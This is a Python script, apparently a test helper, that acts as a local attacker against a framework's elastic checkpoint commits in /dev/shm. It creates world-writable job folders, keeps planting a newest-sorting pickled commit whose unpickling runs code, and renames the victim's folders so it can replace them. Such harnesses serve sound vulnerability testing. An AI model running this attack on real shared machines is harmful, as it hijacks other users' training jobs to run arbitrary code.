"""Another local user attacking the elastic commits of another user's jobs (run as that user,
with the system's Python: standard library only). argv: the planted commit's file, seconds
to run, the victim's uid.

First it makes the shared folders an elastic job would use (the old shared default
/dev/shm/mxhorovod-elastic, and /dev/shm/mxhorovod-elastic-<victim uid>, .1), open to all,
each with a job folder "default" holding the planted commit. Then, every 50 ms, in every
/dev/shm/mxhorovod* folder it can write to: it plants the commit, and swaps each job folder
that is not its own for one of its own holding the commit (a commit named to sort newest,
whose unpickling runs code). Prints READY once the folders are made."""
import os
import sys
import time

planted_file, seconds, victim = sys.argv[1], float(sys.argv[2]), int(sys.argv[3])
with open(planted_file, "rb") as f:
    planted = f.read()
NAME = "commit-999-999"


def plant(folder):
    path = os.path.join(folder, NAME)
    if os.path.lexists(path):
        return
    try:
        with open(path + ".t", "wb") as f:
            f.write(planted)
        os.chmod(path + ".t", 0o666)
        os.replace(path + ".t", path)
    except OSError:
        pass


def open_folder(path):
    try:
        os.mkdir(path)
    except FileExistsError:
        pass
    try:
        os.chmod(path, 0o777)
    except OSError:  # another user's
        return False
    return True


for name in ("mxhorovod-elastic", "mxhorovod-elastic-%d" % victim, "mxhorovod-elastic-%d.1" % victim):
    top = os.path.join("/dev/shm", name)
    if open_folder(top) and open_folder(os.path.join(top, "default")):
        plant(os.path.join(top, "default"))
print("READY", flush=True)

end = time.monotonic() + seconds
while time.monotonic() < end:
    for name in os.listdir("/dev/shm"):
        top = os.path.join("/dev/shm", name)
        if not name.startswith("mxhorovod") or os.path.islink(top) or not os.path.isdir(top):
            continue
        if not os.access(top, os.W_OK | os.X_OK):
            continue
        plant(top)
        try:
            subs = os.listdir(top)
        except OSError:
            continue
        for sub in subs:
            folder = os.path.join(top, sub)
            if os.path.islink(folder) or not os.path.isdir(folder):
                continue
            if os.lstat(folder).st_uid != os.getuid():
                try:
                    os.rename(folder, folder + ".moved-%d" % time.monotonic_ns())
                    open_folder(folder)
                except OSError:
                    continue
            plant(folder)
    time.sleep(0.05)
